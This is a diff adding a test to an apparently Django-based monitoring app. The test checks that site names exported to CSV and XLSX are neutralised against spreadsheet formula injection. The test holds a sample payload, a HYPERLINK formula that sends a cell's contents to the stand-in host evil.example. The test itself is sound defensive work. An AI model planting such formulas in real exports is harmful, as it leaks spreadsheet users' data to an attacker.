@@ -178,3 +178,18 @@ def test_evaluation_failure_after_a_write_ends_the_job(air_sites, write, monkeyp
     job = ImportJob.objects.get(pk=info.value.job.pk)
     assert job.state == ImportJob.State.FAILED and "meili import evaluate" in job.error
     assert job.added == Observation.objects.count() > 0
+
+
+def test_site_names_reach_the_sites_export_as_text(client, users, air_sites):
+    import csv
+
+    from meili.monitoring.models import Site
+
+    evil = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    Site.objects.filter(code="1664A").update(name=evil)
+    client.force_login(users["analyst"])
+    text = client.get("/monitoring/sites/?format=csv").content.decode("utf-8-sig")
+    assert "'" + evil in [c for row in csv.reader(io.StringIO(text)) for c in row]
+    book = openpyxl.load_workbook(io.BytesIO(client.get("/monitoring/sites/?format=xlsx").content))
+    cells = [c for row in book.active.iter_rows() for c in row if c.value == evil]
+    assert len(cells) == 1 and cells[0].data_type == "s"
